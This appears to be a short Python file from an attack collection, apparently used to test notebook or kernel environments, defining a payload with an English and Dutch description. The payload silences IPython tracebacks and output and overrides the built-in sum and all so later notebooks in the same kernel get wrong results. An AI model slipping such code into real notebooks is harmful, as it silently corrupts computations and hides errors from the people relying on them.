"""Changes modules in the kernel, hoping that the notebooks after it get the same ones."""

from attacks.attack import Attack

ATTACK = Attack(
    __doc__,
    nl="Verandert modules in de kernel, in de hoop dat latere notebooks dezelfde krijgen.",
    code="""
import builtins, datetime, IPython.core.interactiveshell as shells
shells.InteractiveShell.showtraceback = lambda *a, **k: None
shells.InteractiveShell.ast_node_interactivity = "none"
builtins.sum = lambda values, start=0: 0
builtins.all = lambda values: False
""",
)
